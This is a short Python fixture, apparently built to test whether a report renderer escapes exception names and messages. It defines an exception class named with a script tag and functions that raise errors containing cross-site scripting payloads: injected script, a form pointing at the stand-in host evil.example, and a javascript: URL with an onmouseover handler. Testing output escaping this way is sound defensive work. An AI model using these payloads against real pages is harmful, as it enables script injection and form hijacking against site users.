# attack: Raises an exception whose name and text are markup.
# verdicts: test_attack=error test_total=error

Odd = type("<script>alert(1)</script>", (Exception,), {})


def attack(n):
    raise Odd(
        "</p></section><script>document.title='pwned'</script><form action=//evil.example><input name=q>"
    )


def total(values):
    raise KeyError('javascript:alert(1)" onmouseover="alert(1)')
